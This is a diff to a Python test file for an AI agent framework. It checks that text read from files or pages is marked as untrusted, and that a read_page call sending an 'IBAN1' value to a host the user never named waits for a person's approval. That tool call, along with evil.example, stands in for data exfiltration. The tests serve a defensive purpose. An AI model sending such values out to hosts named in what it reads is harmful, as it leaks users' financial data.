@@ -281,6 +281,8 @@ def test_a_prompt_that_is_filled_with_an_input_is_private_unless_it_was_typed(
 def test_a_prompt_that_is_built_from_a_file_is_no_word_of_its_person(bench: Workbench, person: Person) -> None:
     host = f"x{os.getpid()}.example"  # which no code names
     text, send = f"a\nIBAN1, see {host}\n", ("read_page", {"url": f"https://{host}/?d=IBAN1"})
+    # Nothing is marked yet; once it is, nobody sees whether a text that Python hands on was made of it.
+    assert not play(bench, prompt=f"Explain this: {text}").seen.strangers
     play(bench, send, prompt=f"Explain this: {text}")
     assert person.names == ["read_page"]
     assert f"to {host}" in person.asked[0].reason
@@ -288,6 +290,23 @@ def test_a_prompt_that_is_built_from_a_file_is_no_word_of_its_person(bench: Work
     assert play(bench, SEND, prompt=f"Compare evil.example with this: {text}").calls[0].result.ok
     assert play(bench, send, prompt=f"Look at {host}, {text}", words=f"Look at {host}").calls[0].result.ok
     assert person.names == ["read_page"]
+    assert play(bench, prompt=f"Explain this: {text}").seen.strangers, "a page was read in this process"
+
+
+@pytest.mark.processes
+def test_a_text_that_python_hands_on_may_be_strangers_once_anything_is_marked(
+    person: Person, open_bench: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    Path("page.yaml").write_text(FLOW)
+    how = {"memory_url": f"duckdb:///{tmp_path}/memory.duckdb", "tools": (read_page,), "workflows": ["page.yaml"]}
+    bench = open_bench(approver=person.approver, **how)
+    play(bench, ("read_page", {"url": "https://a.example"}), ("file_write", {"path": "page.txt", "content": "x"}))
+    run = bench.workflows.run("page.yaml", {"q": "a"})
+    other = open_bench(**how)  # another process
+    assert other.workflows.show(run.run_id).seen.strangers
+    assert play(other, prompt=f"Explain this: {os.getpid()}").seen.strangers
+    assert not play(other, prompt="Look.").seen
 
 
 def test_what_was_typed_is_known_in_a_cell_and_in_lines(monkeypatch: pytest.MonkeyPatch) -> None:
